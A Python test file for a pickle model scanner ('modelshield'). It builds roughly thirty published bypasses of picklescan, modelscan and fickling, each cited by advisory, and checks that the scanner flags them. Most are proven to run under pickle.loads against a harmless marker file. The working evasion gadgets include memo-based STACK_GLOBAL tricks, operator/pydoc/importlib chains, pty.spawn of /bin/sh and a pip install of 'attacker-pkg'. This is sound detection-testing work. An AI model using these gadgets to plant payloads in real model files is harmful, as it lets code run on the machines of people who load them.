"""Regression tests for PUBLISHED bypasses of other pickle scanners (picklescan, modelscan,
fickling). Each case cites its advisory (GHSA / CVE / public PoC URL) in its id and docstring.

Where the bypass runs on the standard library or numpy alone it is PROVEN first: the real
``pickle.loads`` executes it and creates a marker file. Cases that would install packages, start
interactive debuggers or need torch are detection-only (the callable name is enough to judge).
Zip/torch container tricks (CRC, flag bits, extensions) belong to the archive tests.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pickle_recipes import (
    PROVEN,
    Asm,
    Builder,
    Reduce,
    argv_touch,
    asm,
    assert_flagged,
    describe,
    py_touch,
    shell_touch,
    wait_for,
)

import modelshield


@dataclass(frozen=True)
class Bypass:
    id: str
    advisory: str
    """Advisory id(s) and/or URL of the public write-up."""
    build: Builder
    target: str
    rules: tuple[str, ...] = ("MS101",)
    proven: bool = True
    child_process: bool = False
    raises: bool = False
    """The real loader raises after the payload ran (the payload still executed)."""
    protocol: int = 4
    why_not_proven: str = ""


def _recipe(name: str) -> Builder:
    return next(r.build for r in PROVEN if r.name == name)


def _call(module: str, name: str, *payload: Callable[[Path], str]) -> Builder:
    def build(marker: Path, protocol: int) -> bytes:
        return asm(protocol).call(module, name, *(p(marker) for p in payload)).stop().bytes()

    return build


def _stack_global_at_offset_zero(marker: Path, protocol: int) -> bytes:
    # No PROTO/FRAME header: the module string of STACK_GLOBAL is the very first opcode.
    body = asm(4).stack_global("posix", "system").args(shell_touch(marker)).reduce().stop()
    return body.bytes()[2:]


def _stack_global_from_memo(marker: Path, protocol: int) -> bytes:
    # STACK_GLOBAL's operands are not the opcodes just before it: they come from the memo.
    a = asm(4).unicode("posix").memoize().pop().unicode("system").memoize().pop()
    a.unicode("decoy").pop()
    return a.get(0).get(1).raw(b"\x93").args(shell_touch(marker)).reduce().stop().bytes()


def _memoized_binget(marker: Path, protocol: int) -> bytes:
    # A BINGET result memoized again (memo[2] = memo[0]) and used as STACK_GLOBAL operand.
    a = asm(4).unicode("posix").memoize().pop()  # memo[0] = 'posix'
    a.unicode("0").memoize().pop()  # memo[1] = '0' (decoy)
    a.get(0).memoize().pop()  # memo[2] = memo[0]
    a.unicode("system").memoize()  # memo[3] = 'system'
    a.pop().get(2).get(3).raw(b"\x93")
    return a.args(shell_touch(marker)).reduce().stop().bytes()


def _operator_attrgetter_c(marker: Path, protocol: int) -> bytes:
    # _operator.attrgetter('system')(importlib.import_module('os'))(cmd)
    a = asm(protocol).call("_operator", "attrgetter", "system")
    a.tuple_n([lambda x: x.call("importlib", "import_module", "os")]).reduce()
    return a.args(shell_touch(marker)).reduce().stop().bytes()


def _pydoc_locate_methodcaller(marker: Path, protocol: int) -> bytes:
    # operator.methodcaller('system', cmd)(pydoc.locate('os'))
    a = asm(protocol).call("operator", "methodcaller", "system", shell_touch(marker))
    return a.tuple_n([lambda x: x.call("pydoc", "locate", "os")]).reduce().stop().bytes()


def _method_on_instance(
    module: str, cls: str, method: str, *args: Callable[[Asm], object]
) -> Builder:
    # module.cls.method(module.cls(), *args): an unbound method reached by a dotted name.
    def build(marker: Path, protocol: int) -> bytes:
        a = asm(4).stack_global(module, f"{cls}.{method}")
        instance = lambda x: x.global_(module, cls).tuple_n([]).reduce()  # noqa: E731
        a.tuple_n([instance, *args])
        return a.reduce().stop().bytes()

    return build


def _text_of(payload: Callable[[Path], str], marker: Path) -> Callable[[Asm], object]:
    return lambda a: a.text(payload(marker))


def _profile_run_method(marker: Path, protocol: int) -> bytes:
    return _method_on_instance("profile", "Profile", "run", _text_of(py_touch, marker))(marker, 4)


def _runsource(marker: Path, protocol: int) -> bytes:
    return _method_on_instance(
        "code", "InteractiveInterpreter", "runsource", _text_of(py_touch, marker)
    )(marker, 4)


def _cprofile_runctx(marker: Path, protocol: int) -> bytes:
    import cProfile

    return pickle.dumps(Reduce(cProfile.runctx, py_touch(marker), {}, {}), protocol=protocol)


def _runstring(marker: Path, protocol: int) -> bytes:
    a = asm(protocol).global_("numpy.testing._private.utils", "runstring")
    a.tuple_n([lambda x: x.text(py_touch(marker)), lambda x: x.empty_dict()])
    return a.reduce().stop().bytes()


def _getlincoef(marker: Path, protocol: int) -> bytes:
    a = asm(protocol).global_("numpy.f2py.crackfortran", "getlincoef")
    a.tuple_n([lambda x: x.text(py_touch(marker)), lambda x: x.empty_dict()])
    return a.reduce().stop().bytes()


def _create_fn(marker: Path, protocol: int) -> bytes:
    # dataclasses._create_fn('f', ['x=<expr>'], ['pass']) execs "def f(x=<expr>): pass":
    # the default value expression runs when the function is defined.
    a = asm(protocol).global_("dataclasses", "_create_fn")
    a.tuple_n(
        [
            lambda x: x.text("f"),
            lambda x: x.empty_list().text(f"x={py_touch(marker)}").append(),
            lambda x: x.empty_list().text("pass").append(),
        ]
    )
    return a.reduce().stop().bytes()


def _getattr_static(marker: Path, protocol: int) -> bytes:
    # inspect.getattr_static(importlib.import_module('os'), 'system')(cmd)
    a = asm(protocol).global_("inspect", "getattr_static")
    a.tuple_n([lambda x: x.call("importlib", "import_module", "os"), lambda x: x.text("system")])
    return a.reduce().args(shell_touch(marker)).reduce().stop().bytes()


def _builtins_dict_itemgetter(marker: Path, protocol: int) -> bytes:
    # operator.itemgetter('exec')(builtins.__dict__)(source)
    a = asm(protocol).call("operator", "itemgetter", "exec")
    a.tuple_n([lambda x: x.global_("builtins", "__dict__")]).reduce()
    return a.args(py_touch(marker)).reduce().stop().bytes()


def _unix_subprocess_transport(marker: Path, protocol: int) -> bytes:
    # _UnixSubprocessTransport._start(self, args, shell, stdin, stdout, stderr, bufsize):
    # self only needs to accept attributes; the method runs subprocess.Popen(args, shell=shell).
    a = asm(4).stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    a.mark()
    a.global_("types", "SimpleNamespace").tuple_n([]).reduce()
    a.text(shell_touch(marker)).raw(b"\x88")  # NEWTRUE: shell=True
    a.none().none().none().int_(0).tuple_()
    return a.reduce().stop().bytes()


def _nested_c_pickle(marker: Path, protocol: int) -> bytes:
    inner = pickle.dumps(Reduce(os.system, shell_touch(marker)), protocol=2)
    return (
        asm(4)
        .global_("_pickle", "loads")
        .tuple_n([lambda x: x.bytes_(inner)])
        .reduce()
        .stop()
        .bytes()
    )


def _torch_global(module: str, name: str) -> Builder:
    return _call(module, name, shell_touch)


BYPASSES: tuple[Bypass, ...] = (
    Bypass(
        "CVE-2025-1716-pip.main",
        "CVE-2025-1716 (Sonatype; picklescan < 0.0.21 did not treat pip as unsafe)",
        lambda m, p: (
            asm(p)
            .global_("pip", "main")
            .tuple_n(
                [lambda x: x.empty_list().text("install").append().text("attacker-pkg").append()]
            )
            .reduce()
            .stop()
            .bytes()
        ),
        "pip.main",
        proven=False,
        why_not_proven="would install a package from an index",
    ),
    Bypass(
        "CVE-2025-10157-asyncio-submodule",
        "CVE-2025-10157 (JFrog: exact module-name match let asyncio.unix_events through); "
        "CVE-2025-71364 (_UnixSubprocessTransport._start); "
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        _unix_subprocess_transport,
        "asyncio.unix_events._UnixSubprocessTransport._start",
        child_process=True,
    ),
    Bypass(
        "CVE-2025-71325-GHSA-9gvj-pp9x-gcfr-stack-global-offset-0",
        "CVE-2025-71325 / GHSA-9gvj-pp9x-gcfr (STACK_GLOBAL operand at position 0 skipped); "
        "https://github.com/mmaitre314/picklescan/pull/46",
        _stack_global_at_offset_zero,
        "os.system",
    ),
    Bypass(
        "picklescan-issue-22-stack-global-operands-from-memo",
        "https://github.com/mmaitre314/picklescan/issues/22 (ImaginaryCTF 'Safe Pickle': memo "
        "ignored when recovering STACK_GLOBAL operands)",
        _stack_global_from_memo,
        "os.system",
    ),
    Bypass(
        "picklescan-1.0.4-memoized-binget-desync",
        "https://huggingface.co/hacnho/model-format-bypass-pickle-memo-desync (memo value "
        "desync for a memoized BINGET result)",
        _memoized_binget,
        "os.system",
    ),
    Bypass(
        "CVE-2025-71367-_operator.attrgetter",
        "CVE-2025-71367; GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c "
        "(https://github.com/mmaitre314/picklescan/pull/54)",
        _operator_attrgetter_c,
        "os.system",
    ),
    Bypass(
        "CVE-2025-71320-GHSA-84r2-jw7c-4r5q-pydoc.locate-methodcaller",
        "CVE-2025-71320 / GHSA-84r2-jw7c-4r5q (pydoc.locate + operator.methodcaller); "
        "CVE-2025-71373 (operator.methodcaller)",
        _pydoc_locate_methodcaller,
        "os.system",
    ),
    Bypass(
        "CVE-2026-3490-GHSA-vvpj-8cmc-gx39-pkgutil.resolve_name",
        "CVE-2026-3490 / GHSA-vvpj-8cmc-gx39 (universal blocklist bypass via pkgutil.resolve_name)",
        _recipe("pkgutil.resolve_name"),
        "os.system",
    ),
    Bypass(
        "picklescan-issue-66-importlib.import_module",
        "https://github.com/mmaitre314/picklescan/issues/66; "
        "https://github.com/mmaitre314/picklescan/pull/74 (importlib.import_module + getattr)",
        _recipe("getattr(import_module)"),
        "os.system",
    ),
    Bypass(
        "fickling-GHSA-h4rm-mm56-xf63-builtins-imports",
        "fickling GHSA-h4rm-mm56-xf63 (builtins imports not surfaced; "
        "https://github.com/trailofbits/fickling/pull/195)",
        _recipe("getattr(__import__)"),
        "os.system",
    ),
    Bypass(
        "CVE-2026-53873-profile.run",
        "CVE-2026-53873 / GHSA-7wx9-6375-f5wh (module-level profile.run; "
        "https://github.com/mmaitre314/picklescan/pull/65)",
        _call("profile", "run", py_touch),
        "profile.run",
    ),
    Bypass(
        "CVE-2025-71374-profile.Profile.run",
        "CVE-2025-71374 (profile.Profile.run)",
        _profile_run_method,
        "profile.Profile.run",
    ),
    Bypass(
        "CVE-2025-71378-cProfile.runctx",
        "CVE-2025-71378 (cProfile.runctx)",
        _cprofile_runctx,
        "cProfile.runctx",
    ),
    Bypass(
        "CVE-2025-71368-doctest.debug_script",
        "CVE-2025-71368 (doctest.debug_script)",
        _call("doctest", "debug_script", py_touch),
        "doctest.debug_script",
        proven=False,
        why_not_proven="runs the script under an interactive pdb session reading stdin",
    ),
    Bypass(
        "CVE-2025-71372-numpy.f2py.crackfortran.getlincoef",
        "CVE-2025-71372 (numpy.f2py.crackfortran.getlincoef evaluates its argument)",
        _getlincoef,
        "numpy.f2py.crackfortran.getlincoef",
    ),
    Bypass(
        "modelscan-numpy.testing.runstring",
        "https://huggingface.co/daupaul/huntr-modelscan-npz-runstring-rce-poc "
        "(numpy.testing._private.utils.runstring = exec)",
        _runstring,
        "numpy.testing._private.utils.runstring",
    ),
    Bypass(
        "CVE-2025-71322-pty.spawn",
        "CVE-2025-71322 / GHSA-vqmv-47xg-9wpr (pty.spawn); fickling GHSA-r7v6-mfhq-g3m2",
        _call("pty", "spawn", lambda m: "/bin/sh"),
        "pty.spawn",
        proven=False,
        why_not_proven="attaches a shell to the test's terminal",
    ),
    Bypass(
        "CVE-2026-56315-GHSA-g38g-8gr9-h9xp-uuid._get_command_stdout",
        "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (stdlib gadgets: uuid, imaplib, _osx_support...)",
        lambda m, p: asm(p).call("uuid", "_get_command_stdout", *argv_touch(m)).stop().bytes(),
        "uuid._get_command_stdout",
    ),
    Bypass(
        "CVE-2026-56315-GHSA-g38g-8gr9-h9xp-imaplib.IMAP4_stream",
        "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (imaplib.IMAP4_stream runs a shell command)",
        _call("imaplib", "IMAP4_stream", shell_touch),
        "imaplib.IMAP4_stream",
        raises=True,
    ),
    Bypass(
        "CVE-2026-56315-GHSA-g38g-8gr9-h9xp-_osx_support._read_output",
        "CVE-2026-56315 / GHSA-g38g-8gr9-h9xp (_osx_support._read_output uses os.system)",
        _call("_osx_support", "_read_output", shell_touch),
        "_osx_support._read_output",
    ),
    Bypass(
        "picklescan-1.0.5-code.InteractiveInterpreter.runsource",
        "https://huggingface.co/EnigmaConsultant/huntr-poc-pickle-scanner-bypass-code-runsource",
        _runsource,
        "code.InteractiveInterpreter",
    ),
    Bypass(
        "picklescan-1.0.4-inspect.getattr_static",
        "https://huggingface.co/xry6/huntr-picklescan-bypass-poc "
        "(importlib.import_module + inspect.getattr_static)",
        _getattr_static,
        "inspect.getattr_static",
    ),
    Bypass(
        "modelscan-builtins.__dict__-itemgetter",
        "https://huggingface.co/xiaoyaoes/modelscan-builtins-dict-bypass-poc "
        "(operator.itemgetter('exec')(builtins.__dict__))",
        _builtins_dict_itemgetter,
        "builtins.__dict__",
        rules=("MS101", "MS104"),
    ),
    Bypass(
        "picklescan-1.0.4-dataclasses._create_fn",
        "https://huggingface.co/wulonchia/picklescan-bypass-dataclasses-poc "
        "(dataclasses._create_fn execs generated source)",
        _create_fn,
        "dataclasses._create_fn",
        rules=("MS101", "MS102"),
    ),
    Bypass(
        "picklescan-1.0.4-marshal+FunctionType",
        "https://huggingface.co/thesecguy/poc-picklescan-marshal-bypass; "
        "https://github.com/mmaitre314/picklescan/pull/74",
        _recipe("marshal+FunctionType"),
        "marshal.loads",
        rules=("MS101", "MS107"),
    ),
    Bypass(
        "fickling-PR-210-_pickle-nested",
        "https://github.com/trailofbits/fickling/pull/210 (nested pickle through pickle/_pickle)",
        _nested_c_pickle,
        "os.system",
    ),
    Bypass(
        "picklescan-_posixsubprocess.fork_exec",
        "https://huggingface.co/th3-j0k3r/picklescan-posixsubprocess-bypass",
        _call("_posixsubprocess", "fork_exec", shell_touch),
        "_posixsubprocess.fork_exec",
        proven=False,
        why_not_proven="fork_exec takes ~20 low-level arguments; the name alone is decisive",
    ),
    Bypass(
        "picklescan-_bootsubprocess",
        "https://huggingface.co/th3-j0k3r/picklescan-bootsubprocess-bypass",
        _call("_bootsubprocess", "check_output", shell_touch),
        "_bootsubprocess.check_output",
        rules=("MS101", "MS102"),
        proven=False,
        why_not_proven="check_output rejects the pytest tmp path characters (_check_cmd)",
    ),
    Bypass(
        "modelscan-methodcaller-ctypes-libc-system",
        "https://huggingface.co/EnigmaConsultant/huntr-poc-modelscan-methodcaller-ctypes-libc-system",
        lambda m, p: (
            asm(p)
            .call("operator", "methodcaller", "system", shell_touch(m))
            .tuple_n([lambda x: x.global_("ctypes", "CDLL").tuple_n([lambda y: y.none()]).reduce()])
            .reduce()
            .stop()
            .bytes()
        ),
        "ctypes.CDLL",
        proven=False,
        why_not_proven="loads native code into the test process",
    ),
    # torch gadgets (torch is not a test dependency): the pickle names them, which is enough.
    Bypass(
        "modelscan-PR-313-torch.utils.bottleneck",
        "https://github.com/protectai/modelscan/pull/313 (torch.utils.bottleneck.__main__.*)",
        _torch_global("torch.utils.bottleneck.__main__", "run_cprofile"),
        "torch.utils.bottleneck",
        rules=("MS101", "MS102"),
        proven=False,
        why_not_proven="needs torch",
    ),
    Bypass(
        "modelscan-PR-313-torch._dynamo.guards.GuardBuilder.get",
        "https://github.com/protectai/modelscan/pull/313 (torch._dynamo.guards.GuardBuilder.get)",
        _torch_global("torch._dynamo.guards", "GuardBuilder.get"),
        "torch._dynamo.guards.GuardBuilder.get",
        rules=("MS101", "MS102"),
        proven=False,
        why_not_proven="needs torch",
    ),
    Bypass(
        "modelscan-PR-313-torch.fx.symbolic_shapes",
        "https://github.com/protectai/modelscan/pull/313 (torch.fx.experimental.symbolic_shapes)",
        _torch_global(
            "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"
        ),
        "torch.fx.experimental.symbolic_shapes",
        rules=("MS101", "MS102"),
        proven=False,
        why_not_proven="needs torch",
    ),
)


def _params(proven: bool) -> list[Any]:
    return [pytest.param(b, id=b.id) for b in BYPASSES if b.proven is proven]


@pytest.mark.parametrize("bypass", _params(proven=True))
def test_published_bypass_is_proven_and_flagged(bypass: Bypass, tmp_path: Path) -> None:
    """The published bypass really executes under pickle.loads, and the scanner flags it."""
    marker = tmp_path / "marker"
    data = bypass.build(marker, bypass.protocol)
    try:
        pickle.loads(data)
    except Exception:
        if not bypass.raises:
            raise
    assert wait_for(marker) if bypass.child_process else marker.exists(), bypass.advisory

    result = modelshield.scan_bytes(data, f"{bypass.id}.pkl")
    assert result.complete, describe(result)
    assert_flagged(result, bypass.target, bypass.rules)


@pytest.mark.parametrize("bypass", _params(proven=False))
def test_published_bypass_is_flagged(bypass: Bypass, tmp_path: Path) -> None:
    """Detection only (see ``why_not_proven``): never loaded here."""
    assert bypass.why_not_proven
    data = bypass.build(tmp_path / "marker", bypass.protocol)
    result = modelshield.scan_bytes(data, f"{bypass.id}.pkl")
    assert_flagged(result, bypass.target, bypass.rules)
